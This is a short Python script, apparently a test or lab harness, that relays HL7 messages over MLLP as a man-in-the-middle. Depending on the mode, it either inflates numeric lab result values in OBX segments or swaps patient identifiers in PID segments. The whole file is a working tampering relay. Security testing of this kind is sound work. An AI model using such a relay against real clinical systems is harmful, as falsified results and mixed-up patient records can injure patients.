"""The attacker's relay of our own: passes MLLP on and changes messages on the way.

``python mllp_tamper.py PORT HOST PORT values|patients``: numbers of OBX-5 become larger, or PID-3 becomes another's.
"""

from __future__ import annotations

import re
import socket
import socketserver
import sys
import threading

HOST, PORT, HOW = sys.argv[2], int(sys.argv[3]), sys.argv[4]


def changed(data: bytes) -> bytes:
    """The message as the attacker wants it; lengths may change, MLLP does not count them."""
    if HOW == "values":
        return re.sub(rb"(OBX\|\d+\|NM\|[^|]*\|[^|]*\|)(\d+)", lambda found: found[1] + b"9", data)
    return re.sub(rb"PID\|\|\|TEST\d{5}", b"PID|||TEST00099", data)


class Relay(socketserver.BaseRequestHandler):
    """One connection that was turned to us."""

    def handle(self) -> None:
        """Passes both ways until one side ends."""
        with socket.create_connection((HOST, PORT), timeout=20) as onward:
            back = threading.Thread(target=self.copy, args=(onward, self.request, False), daemon=True)
            back.start()
            self.copy(self.request, onward, True)
            onward.shutdown(socket.SHUT_WR)
            back.join(5)

    def copy(self, source: socket.socket, to: socket.socket, change: bool) -> None:
        """Passes one way."""
        try:
            while data := source.recv(65536):
                sent = changed(data) if change else data
                if sent != data:
                    print("changed", flush=True)  # the story looks for this: an attack that did nothing is none
                to.sendall(sent)
        except OSError:
            pass


socketserver.ThreadingTCPServer.allow_reuse_address = True
socketserver.ThreadingTCPServer(("0.0.0.0", int(sys.argv[1])), Relay).serve_forever()
